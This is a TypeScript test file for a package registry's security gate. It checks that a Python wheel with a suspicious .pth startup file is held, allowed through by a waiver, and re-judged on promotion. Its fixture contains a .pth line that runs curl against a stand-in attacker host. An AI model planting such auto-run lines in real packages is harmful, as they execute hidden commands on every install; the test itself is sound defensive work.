import { describe, expect, it } from 'vitest';
import type { Waiver } from '../../../core/documents/gate/policy.ts';
import { readVerdict } from '../../../core/documents/gate/verdict.ts';
import { sha256Of } from '../../../core/names/digest.ts';
import { projectNameSchema } from '../../../core/names/project-name.ts';
import { promote } from '../../../core/steps/promote.ts';
import { stagingStore } from '../../../core/store/staging-store.ts';
import { isOfGate } from '../../support/gate/gate-keys.ts';
import { testGate } from '../../support/gate/test-gate.ts';
import { publishFiles, publishWorld } from '../../support/publish/publish-scene.ts';
import { buildWheel } from '../../support/python/build-wheel.ts';

const fileName = 'demo-1.0-py3-none-any.whl';
const pth = 'import os; os.system("curl evil.example")\n';
const wheel = buildWheel({ files: { 'demo.pth': pth } });
const waiver: Waiver = { check: 'F7', sha256: sha256Of(pth), reason: 'ours', expires: '2099-01-01' };
const sound = buildWheel({ fileName: 'demo-2.0-py3-none-any.whl' });

describe('a file that the gate holds', () => {
  it('keeps out all that is published with it: no name is taken, and the problem names the check and the waiver', async () => {
    const world = publishWorld();
    const offered = { [fileName]: wheel, 'demo-2.0-py3-none-any.whl': sound };
    const { files, problems } = await publishFiles(offered, world);
    const held = { code: 'gate.held', subject: fileName, detail: expect.stringMatching(/^F7\./) };
    expect([files, problems]).toMatchObject([[], [{ ...held, hint: expect.stringContaining(sha256Of(pth)) }]]);
    expect([...world.store.objects.keys()].filter((at) => !isOfGate(at))).toEqual([]);
  });

  it('is published by the same call once it is waived', async () => {
    const world = publishWorld();
    await publishFiles({ [fileName]: wheel }, world);
    const waived = { ...world, gate: testGate(world.store, { policy: { waivers: [waiver] } }) };
    expect(await publishFiles({ [fileName]: wheel }, waived)).toMatchObject({
      problems: [],
      files: [{ status: 'stored' }],
    });
    const verdict = await readVerdict(world.store, `simple/demo/${fileName}`, sha256Of(wheel));
    expect(verdict?.value).toMatchObject({ verdict: 'warn', origin: 'published', waivers: [waiver] });
  });

  it('is judged again for the channel when it is promoted: a script that passed in staging is known there', async () => {
    const staging = publishWorld({ to: 'staging' });
    const gate = testGate(stagingStore(staging.store), { policy: { waivers: [waiver] } });
    expect((await publishFiles({ [fileName]: wheel }, { ...staging, gate })).problems).toEqual([]);
    const world = publishWorld({ store: staging.store });
    const release = { name: projectNameSchema.parse('demo'), version: '1.0' };
    expect(await promote(release, world)).toMatchObject({ problems: [] });
    const verdict = await readVerdict(world.store, `simple/demo/${fileName}`, sha256Of(wheel));
    expect(verdict?.value).toMatchObject({ verdict: 'pass', origin: 'published' });
  });
});
